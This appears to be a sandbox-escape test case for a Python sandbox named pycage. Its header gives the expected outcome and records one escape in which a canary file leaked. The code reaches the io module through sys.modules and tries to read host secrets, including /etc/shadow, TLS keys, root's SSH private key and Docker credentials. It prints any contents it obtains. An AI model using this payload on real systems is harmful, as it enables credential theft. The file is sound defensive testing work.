# attack: reads the host's secrets by path through sys.modules["io"]: /etc/shadow, the
#   planted /etc/pycage/canary, pycage's configuration, pid file and socket, TLS keys,
#   root's ssh and docker credentials
# expect: status in ok|error ; stdout lacks LEAKED
# escaped: stdout "LEAKED /etc/pycage/canary 'pycage-canary-0123'\n"
import sys

io = sys.modules["io"]
for path in ("/etc/shadow", "/etc/gshadow", "/etc/pycage/canary", "/etc/pycage/pycage.conf",
             "/etc/pycage/tls/server.key", "/run/pycage/pycage-fcgi.pid", "/run/pycage/nginx.pid",
             "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys", "/root/.docker/config.json",
             "/root/.bash_history", "/etc/docker/daemon.json", "/var/lib/docker/containers"):
    try:
        with io.open(path, "rb") as f:
            print("LEAKED", path, f.read(100))
    except BaseException as exc:
        print("refused", path, type(exc).__name__)
